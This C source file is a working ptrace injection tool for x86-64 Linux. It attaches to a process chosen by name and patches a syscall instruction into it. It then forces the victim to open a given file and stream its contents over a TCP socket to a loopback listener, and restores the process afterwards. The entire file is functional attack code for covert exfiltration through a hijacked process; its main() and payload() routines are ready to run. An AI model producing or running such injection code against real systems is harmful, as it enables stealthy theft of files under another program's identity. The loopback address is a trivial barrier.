// SPDX-License-Identifier: GPL-2.0
/*
 * ptrace injection: makes a running process read a file and send it to a
 * listener on loopback, with system calls that are forced into it one by one.
 *
 *	inject COMM FILE PORT
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

/* Below the red zone of the victim's stack. */
#define SCRATCH_OFFSET 8192
#define READ_SIZE 1024
#define SYSCALL_INSTRUCTION 0x050f

static pid_t victim;
static struct user_regs_struct saved;
static unsigned long scratch;

static pid_t find(const char *comm)
{
	char path[300], name[32];
	struct dirent *entry;
	pid_t found = 0;
	FILE *file;
	DIR *proc;

	proc = opendir("/proc");
	while (proc && !found && (entry = readdir(proc))) {
		if (!atoi(entry->d_name))
			continue;
		snprintf(path, sizeof(path), "/proc/%s/comm", entry->d_name);
		file = fopen(path, "r");
		if (!file)
			continue;
		if (fgets(name, sizeof(name), file)) {
			name[strcspn(name, "\n")] = '\0';
			if (!strcmp(name, comm))
				found = atoi(entry->d_name);
		}
		fclose(file);
	}
	if (proc)
		closedir(proc);
	return found;
}

static void poke(unsigned long address, const void *bytes, size_t size)
{
	size_t i;
	long word;

	for (i = 0; i < size; i += sizeof(word)) {
		word = 0;
		memcpy(&word, (const char *)bytes + i,
		       size - i < sizeof(word) ? size - i : sizeof(word));
		ptrace(PTRACE_POKEDATA, victim, address + i, word);
	}
}

static long force(long number, unsigned long a, unsigned long b, unsigned long c)
{
	struct user_regs_struct regs = saved;
	int status;

	regs.rax = number;
	regs.orig_rax = -1;	/* no restart of the call we interrupted */
	regs.rdi = a;
	regs.rsi = b;
	regs.rdx = c;
	ptrace(PTRACE_SETREGS, victim, 0, &regs);
	ptrace(PTRACE_SINGLESTEP, victim, 0, 0);
	waitpid(victim, &status, __WALL);
	ptrace(PTRACE_GETREGS, victim, 0, &regs);
	return regs.rax;
}

static void payload(const char *path, int port)
{
	struct sockaddr_in address = { .sin_family = AF_INET, .sin_port = htons(port) };
	long file, pool, size;

	address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
	poke(scratch, path, strlen(path) + 1);
	file = force(SYS_open, scratch, O_RDONLY, 0);
	if (file < 0)
		return;
	pool = force(SYS_socket, AF_INET, SOCK_STREAM, 0);
	poke(scratch, &address, sizeof(address));
	force(SYS_connect, pool, scratch, sizeof(address));
	while ((size = force(SYS_read, file, scratch, READ_SIZE)) > 0)
		force(SYS_write, pool, scratch, size);
	force(SYS_close, pool, 0, 0);
	force(SYS_close, file, 0, 0);
}

int main(int argc, char **argv)
{
	long instruction;
	int status;

	if (argc != 4)
		return 2;
	victim = find(argv[1]);
	if (!victim || ptrace(PTRACE_ATTACH, victim, 0, 0)) {
		fprintf(stderr, "inject: cannot attach to %s: %s\n", argv[1], strerror(errno));
		return 1;
	}
	waitpid(victim, &status, __WALL);
	ptrace(PTRACE_GETREGS, victim, 0, &saved);
	scratch = (saved.rsp - SCRATCH_OFFSET) & ~15ul;
	instruction = ptrace(PTRACE_PEEKTEXT, victim, saved.rip, 0);
	ptrace(PTRACE_POKETEXT, victim, saved.rip,
	       (instruction & ~0xffffl) | SYSCALL_INSTRUCTION);
	payload(argv[2], atoi(argv[3]));
	ptrace(PTRACE_POKETEXT, victim, saved.rip, instruction);
	ptrace(PTRACE_SETREGS, victim, 0, &saved);
	ptrace(PTRACE_DETACH, victim, 0, 0);
	return 0;
}
